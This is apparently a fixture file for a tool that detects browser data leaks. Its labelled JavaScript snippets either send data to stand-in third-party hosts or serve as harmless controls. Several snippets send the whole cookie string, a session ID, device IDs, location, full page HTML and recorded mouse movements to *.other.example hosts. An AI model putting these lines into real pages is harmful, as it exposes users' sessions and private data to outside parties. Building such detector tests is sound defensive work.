//# cookie-whole
// flow: identifier > ck.other.example via image
(new Image).src = 'https://ck.other.example/c?d=' + encodeURIComponent(document.cookie);

//# cookie-set-only
// no flow
// why: the cookie is written for this page, not read
document.cookie = 'seen=1; path=/; max-age=86400';
fetch('https://ckset.other.example/banner.json', { credentials: 'omit' });

//# cookie-one-by-regex
// flow: identifier > ga.other.example via beacon
var m = document.cookie.match(/(?:^|; )_vid=([^;]*)/);
navigator.sendBeacon('https://ga.other.example/collect', 'cid=' + (m ? decodeURIComponent(m[1]) : 'none'));

//# cookie-enabled-flag
// no flow
// why: only whether the seen cookie is there
var seen = document.cookie.indexOf('seen=1') !== -1;
fetch('https://flag.other.example/x?seen=' + seen);

//# local-storage-property
// flow: identifier > ls.other.example via fetch
fetch('https://ls.other.example/id', { headers: { 'X-Client-Id': localStorage.clientId } });

//# draft-kept-in-storage
// no flow
// why: the text stays in the storage of the page
const ta = document.querySelector('textarea[name=message]');
ta.oninput = () => localStorage.setItem('draft', ta.value);
window.addEventListener('storage', () => fetch('https://draft.other.example/changed', { method: 'POST' }));

//# indexeddb-read
// flow: identifier > idb.other.example via fetch
indexedDB.open('ids').onsuccess = (e) => {
  const get = e.target.result.transaction('kv').objectStore('kv').get('device_id');
  get.onsuccess = () => fetch('https://idb.other.example/d?id=' + get.result);
};

//# indexeddb-write
// no flow
indexedDB.open('notes').onsuccess = (e) => {
  const store = e.target.result.transaction('kv', 'readwrite').objectStore('kv');
  store.put(document.querySelector('textarea[name=message]').value, 'note');
  fetch('https://idbw.other.example/saved');
};

//# cookie-store
// flow: identifier > cs.other.example via fetch
(async () => {
  const c = await cookieStore.get('session_id');
  if (c) await fetch('https://cs.other.example/s', { method: 'POST', body: c.value });
})();

//# geolocation-position
// flow: location > geo.other.example via fetch
navigator.geolocation.getCurrentPosition(({ coords }) => {
  fetch(`https://geo.other.example/at?lat=${coords.latitude}&lon=${coords.longitude}`);
});

//# geolocation-distance-local
// no flow
// why: the position is compared with shops in the page; the list is asked for without it
navigator.geolocation.getCurrentPosition(async (pos) => {
  const shops = await (await fetch('https://shops.other.example/all.json')).json();
  shops.sort((a, b) => Math.abs(a.lat - pos.coords.latitude) - Math.abs(b.lat - pos.coords.latitude));
  document.querySelector('#nearest').textContent = shops[0].name;
});

//# geolocation-error-code
// no flow
// why: the error callback has no position
navigator.geolocation.getCurrentPosition(
  (p) => console.log(p.coords.latitude),
  (err) => navigator.sendBeacon('https://geoerr.other.example/e', 'code=' + err.code),
);

//# page-content
// flow: interaction > snap.other.example via fetch
fetch('https://snap.other.example/dom', { method: 'POST', body: document.documentElement.outerHTML });

//# mouse-path
// flow: interaction > mouse.other.example via beacon
var path = [];
document.addEventListener('mousemove', function (e) {
  path.push(e.clientX + ',' + e.clientY);
  if (path.length > 50) { navigator.sendBeacon('https://mouse.other.example/m', path.join(';')); path = []; }
});

//# mouse-moves-tooltip
// no flow
// why: the pointer only moves a tooltip
document.addEventListener('mousemove', (e) => {
  const tip = document.querySelector('#tip');
  tip.style.left = e.pageX + 'px';
  tip.style.top = e.pageY + 'px';
});
fetch('https://tips.other.example/texts.json');

//# scroll-depth
// flow: interaction > scroll.other.example via websocket
const ws = new WebSocket('wss://scroll.other.example/rec');
addEventListener('scroll', () => ws.send(JSON.stringify({ y: window.scrollY })), { passive: true });

//# mutation-recorder
// flow: interaction > rec.other.example via fetch
new MutationObserver((list) => {
  const added = list.flatMap((m) => [...m.addedNodes]).map((n) => n.outerHTML || n.textContent);
  fetch('https://rec.other.example/mut', { method: 'POST', body: JSON.stringify(added) });
}).observe(document.body, { childList: true, subtree: true });

//# server-config-forwarded
// no flow
// why: what goes out came from a server and is about the release
fetch('https://conf.other.example/build.json')
  .then((r) => r.json())
  .then((b) => navigator.sendBeacon('https://fwd.other.example/v', b.version));

//# answer-shown
// flow: search > sugg.other.example via fetch
// why: near miss: the answer is put in the page; the password field nearby is not read out
const qf = document.querySelector('input[type=search]');
qf.oninput = async () => {
  const r = await fetch('https://sugg.other.example/s?q=' + encodeURIComponent(qf.value));
  document.querySelector('#list').textContent = await r.text();
  document.querySelector('input[type=password]').disabled = true;
};

//# cookie-deleted
// no flow
// why: an expiry date in the past removes the cookie
document.cookie = 'uid=; expires=Thu, 01 Jan 1970 00:00:00 GMT; path=/';
fetch('https://ckdel.other.example/bye', { method: 'POST', credentials: 'omit' });

//# scroll-to-top-button
// no flow
const up = document.querySelector('#up');
addEventListener('scroll', () => { if (up) up.hidden = window.scrollY < 300; });
fetch('https://top.other.example/icons.svg');
